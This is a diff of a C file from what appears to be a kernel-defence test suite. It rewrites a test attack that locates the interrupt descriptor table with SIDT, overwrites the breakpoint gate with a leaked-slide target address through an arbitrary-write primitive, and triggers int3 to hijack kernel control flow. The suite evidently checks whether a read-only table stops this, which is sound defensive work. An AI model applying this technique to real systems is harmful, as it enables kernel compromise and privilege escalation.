@@ -1,36 +1,49 @@
 /* SPDX-License-Identifier: BSD-3-Clause */
 /*
- * The table of interrupts: SIDT tells any code where it is, and a gate tells where the kernel is. A hostile program
- * writes a gate, and raises its exception.
+ * The table of interrupts: SIDT tells any program where it is. A gate is overwritten by an arbitrary write, and a program
+ * raises its exception.
  */
 #include "attacks.h"
 
-PROGRAM(reads_gate, "subq $16, %rsp\n"
-		    "sidt (%rsp)\n"
-		    "movq 2(%rsp), %rax\n"
-		    "movq 48(%rax), %rax\n" PROGRAM_EXIT);
-/* RDI: the goal. Gate 3, the breakpoint's. */
-PROGRAM(writes_gate, "subq $16, %rsp\n"
-		     "sidt (%rsp)\n"
-		     "movq 2(%rsp), %rax\n"
-		     "movw %di, 48(%rax)\n"
-		     "shrq $16, %rdi\n"
-		     "movw %di, 54(%rax)\n"
-		     "shrq $16, %rdi\n"
-		     "movl %edi, 56(%rax)\n"
-		     "int3\n" PROGRAM_EXIT);
+#define BREAKPOINT 3
+#define GATE_SIZE 16
+
+PROGRAM(exits, PROGRAM_EXIT);
+PROGRAM(breaks, "int3\n" PROGRAM_EXIT);
+
+struct PACKED table {
+	uint16_t limit;
+	uint64_t base;
+};
+
+/* As a program does it: it needs no privilege. */
+static struct table table(void)
+{
+	struct table t;
+
+	__asm__ volatile("sidt %0" : "=m"(t));
+	return t;
+}
 
 static bool benign(const struct attack *attack)
 {
-	return attack_program_run(reads_gate, 0, 0);
+	return attack_program_run(exits, 0, 0) && table().limit >= GATE_SIZE * BREAKPOINT;
 }
 
 static void run(const struct attack *attack)
 {
+	uint64_t goal = attack_linked_code(attack_goal) + attack_leaked_slide();
+	uintptr_t gate = table().base + GATE_SIZE * BREAKPOINT;
+	const uint16_t low = (uint16_t)goal, middle = (uint16_t)(goal >> 16);
+	const uint32_t high = (uint32_t)(goal >> 32);
+
 	attack_primitive(attack);
-	attack_program_run(writes_gate, attack_linked_code(attack_goal) + attack_leaked_slide(), 0);
+	attack_write(gate, &low, sizeof(low));
+	attack_write(gate + 6, &middle, sizeof(middle));
+	attack_write(gate + 8, &high, sizeof(high));
+	attack_program_run(breaks, 0, 0);
 }
 
-ATTACK(idt, .family = "interrupt table", .primitive = HOSTILE_PROGRAM, .knowledge = LAYOUT_LEAKED,
-       .stopped_by = "readonly", .about = "a program writes a gate of the table of interrupts", .run = run,
+ATTACK(idt, .family = "interrupt table", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
+       .stopped_by = "readonly", .about = "a gate of the table of interrupts leads to the goal", .run = run,
        .benign = benign);
